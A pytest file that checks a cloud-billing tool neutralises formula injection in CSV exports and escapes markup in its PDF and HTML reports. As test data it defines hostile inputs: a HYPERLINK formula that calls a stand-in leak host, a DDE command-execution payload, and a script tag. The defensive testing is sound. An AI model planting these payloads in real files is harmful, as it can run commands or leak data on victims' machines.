"""User text (tags, descriptions) flowing from a billing file to every output, end to end.

* chargeback.csv (for spreadsheets): text beginning with = + - @ tab or CR is neutralised with a
  leading quote (core/csv_out.py safe_cell, the one CSV writer); numbers, negative ones included, stay numbers.
* chargeback.pdf: jinja2 autoescape, so `<script>` is printed as text, not parsed as markup.
* FOCUS export (`meterbook export focus`): its CSV is neutralised like every CSV meterbook writes
  (people open it in spreadsheets); its Parquet keeps ids, descriptions and tag JSON exactly as
  billed, for FOCUS validators and FinOps tools.
"""
from __future__ import annotations

import csv
import json
from pathlib import Path

import duckdb
import pytest
from click.testing import CliRunner
from pypdf import PdfReader

from pipelines.cli import main
from reports.render import safe_cell
from tests.conftest import DATA

HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click")'
SCRIPT = "<script>alert(1)</script>"
DDE = "=cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def outputs(tmp_path_factory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("exports")
    src = (DATA / "bad" / "focus_tag_script_and_formula.csv").read_text()
    billing = root / "focus-2026-10.csv"
    # descriptions that would run in a spreadsheet, beside the tag values
    billing.write_text(src.replace("$98.32 per On Demand Linux p5.48xlarge Instance Hour", f'"{DDE}"', 1)
                          .replace("$1.006 per On Demand Linux g5.xlarge Instance Hour", "@SUM(1+1)*cmd", 1))
    wh = root / "wh.duckdb"
    run = CliRunner()
    for args in (["ingest", str(billing), "--warehouse", str(wh)],
                 ["report", "chargeback", "--month", "2026-10", "--warehouse", str(wh), "--out", str(root / "report")],
                 ["export", "focus", "--month", "2026-10", "--warehouse", str(wh), "--out", str(root / "focus-export")]):
        res = run.invoke(main, args)
        assert res.exit_code == 0, f"{args[0]}: {res.output} {res.exception!r}"
    return {"wh": wh, "csv": root / "report" / "chargeback.csv", "pdf": root / "report" / "chargeback.pdf",
            "focus_csv": root / "focus-export.csv", "focus_parquet": root / "focus-export.parquet"}


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("research", "research"), (SCRIPT, SCRIPT), (-5, -5), (12.5, 12.5), (None, None),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_formula_in_a_tag_is_neutralised_in_the_chargeback_csv(outputs):
    rows = list(csv.DictReader(outputs["csv"].open(encoding="utf-8")))
    teams = {r["team"] for r in rows}
    assert "'" + HYPERLINK in teams and HYPERLINK not in teams
    assert SCRIPT in teams                       # harmless in a CSV: kept as written
    for r in rows:
        for col in ("billed_cost", "effective_cost", "list_cost"):
            assert not r[col].startswith("'")    # numbers stay numbers (negatives too)
            float(r[col] or 0)


def test_every_text_cell_of_the_chargeback_csv_is_safe(outputs):
    for row in csv.reader(outputs["csv"].open(encoding="utf-8")):
        for cell in row:
            if cell[:1] in ("=", "+", "@", "\t", "\r") or (cell[:1] == "-" and not _is_number(cell)):
                pytest.fail(f"unneutralised cell {cell!r}")


def _is_number(s: str) -> bool:
    try:
        float(s)
        return True
    except ValueError:
        return False


def test_pdf_prints_markup_as_text(outputs):
    """Escaped, `<script>` is visible text in the PDF; unescaped, it would be an element and vanish."""
    text = "".join(page.extract_text() for page in PdfReader(outputs["pdf"]).pages)
    flat = "".join(text.split())
    assert "".join(SCRIPT.split()) in flat
    assert "=HYPERLINK(" in flat


def test_html_template_autoescapes():
    from reports.render import environment
    env = environment()
    assert env.autoescape is True or env.autoescape(None) or env.autoescape("chargeback.html")
    assert env.from_string("{{ x }}").render(x=SCRIPT) == "&lt;script&gt;alert(1)&lt;/script&gt;"


def test_focus_csv_is_neutralised_and_its_parquet_keeps_billed_text_exactly(outputs):
    rows = list(csv.DictReader(outputs["focus_csv"].open(encoding="utf-8")))
    descriptions = {r["ChargeDescription"] for r in rows}
    assert "'" + DDE in descriptions and "'@SUM(1+1)*cmd" in descriptions and DDE not in descriptions
    tags = [json.loads(r["Tags"]) for r in rows if r["Tags"]]
    assert {"team": HYPERLINK} in tags and {"team": SCRIPT} in tags
    pq = duckdb.sql(f"select ChargeDescription from '{outputs['focus_parquet']}'").fetchall()
    assert (DDE,) in pq
